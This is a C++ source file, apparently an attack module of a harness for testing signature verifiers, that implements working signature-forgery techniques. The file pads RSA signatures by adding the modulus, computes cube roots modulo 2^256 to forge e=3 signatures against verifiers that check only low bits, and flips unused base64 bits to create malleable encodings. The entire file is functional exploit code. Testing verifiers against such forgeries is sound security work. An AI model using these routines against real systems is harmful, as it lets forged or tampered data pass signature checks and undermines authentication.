#include "attack.h"

#include <openssl/bn.h>

#include <stdexcept>

namespace forge {
namespace {

using NumberPtr = std::unique_ptr<BIGNUM, Deleter<BN_free>>;
using WorkspacePtr = std::unique_ptr<BN_CTX, Deleter<BN_CTX_free>>;

constexpr int attempts = 1000;

NumberPtr number(const Bytes &bytes) {
    NumberPtr result(BN_bin2bn(bytes.data(), static_cast<int>(bytes.size()), nullptr));
    require(result != nullptr, "out of memory");
    return result;
}

Bytes fixed_size(const BIGNUM *value, std::size_t size) {
    Bytes result(size);
    require(BN_bn2binpad(value, result.data(), static_cast<int>(size)) == static_cast<int>(size), "number too large");
    return result;
}

NumberPtr power_of_two(int exponent) {
    NumberPtr result(BN_new());
    require(result && BN_set_bit(result.get(), exponent) == 1, "out of memory");
    return result;
}

NumberPtr sum(const Bytes &signature, const std::string &key) {
    const NumberPtr value = number(signature);
    require(BN_add(value.get(), value.get(), number(rsa_modulus(key)).get()) == 1, "cannot add");
    return NumberPtr(BN_dup(value.get()));
}

// The cube root of an odd number modulo 2^256: a power of it, as cubing is a bijection of the odd residues.
Bytes cube_root(const Bytes &odd_hash, std::size_t size) {
    const WorkspacePtr workspace(BN_CTX_new());
    const NumberPtr modulus = power_of_two(256);
    const NumberPtr order = power_of_two(254);
    const NumberPtr three = number({3});
    const NumberPtr exponent(BN_mod_inverse(nullptr, three.get(), order.get(), workspace.get()));
    const NumberPtr root(BN_new());
    require(workspace && exponent && root, "out of memory");
    require(BN_mod_exp(root.get(), number(odd_hash).get(), exponent.get(), modulus.get(), workspace.get()) == 1,
            "cannot take a cube root");
    return fixed_size(root.get(), size);
}

}  // namespace

void add_modulus_to_signature(Scene &scene, SignedBlob &blob, Object &object) {
    const std::string signer = blob.signer;
    blob.edit_signature = nullptr;
    for (int i = 0; i < attempts; ++i, ++object.handle) {
        const Bytes bytes = blob_bytes(scene, blob);
        const std::size_t size = bytes.size() - blob_data(scene, blob).size();
        const Bytes signature(bytes.end() - static_cast<std::ptrdiff_t>(size), bytes.end());
        if (static_cast<std::size_t>(BN_num_bytes(sum(signature, signer).get())) > size) continue;
        blob.edit_signature = [signer, size](Bytes &made, const Bytes &) {
            made = fixed_size(sum(made, signer).get(), size);
        };
        return;
    }
    throw std::logic_error("no signature small enough");
}

void forge_with_cube_root(Scene &scene, SignedBlob &blob, Object &object) {
    blob.edit_signature = [](Bytes &signature, const Bytes &data) {
        signature = cube_root(sha256(data), signature.size());
    };
    for (int i = 0; i < attempts; ++i, ++object.handle)
        if ((sha256(blob_data(scene, blob)).back() & 1U) != 0) return;
    throw std::logic_error("no odd hash");
}

void set_unused_base64_bits(std::string &quoted_text) {
    constexpr std::string_view alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    char &last = quoted_text.at(quoted_text.size() - 2);
    last = alphabet.at(alphabet.find(last) | 1U);
}

}  // namespace forge
